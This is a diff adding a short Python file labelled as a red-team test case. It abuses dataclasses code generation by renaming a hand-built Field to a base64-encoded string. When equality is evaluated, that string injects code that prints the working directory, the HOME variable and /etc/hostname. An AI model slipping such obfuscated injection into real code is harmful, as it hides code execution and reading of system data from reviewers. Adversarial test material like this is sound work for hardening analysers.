@@ -1,0 +1,26 @@
+# family: red team, round 51a (dataclasses.Field made directly, shared with a dataclass, renamed through a helper's parameter)
+import base64
+import dataclasses
+
+
+def rename(target, value):
+    target.name = value
+
+
+made = dataclasses.Field(0, dataclasses.MISSING, True, True, None, True, None, False)
+
+
+@dataclasses.dataclass
+class A:
+    x: int = made
+
+
+rename(made, base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode())
+
+
+@dataclasses.dataclass(init=False, repr=False)
+class B(A):
+    pass
+
+
+print(B() == B())
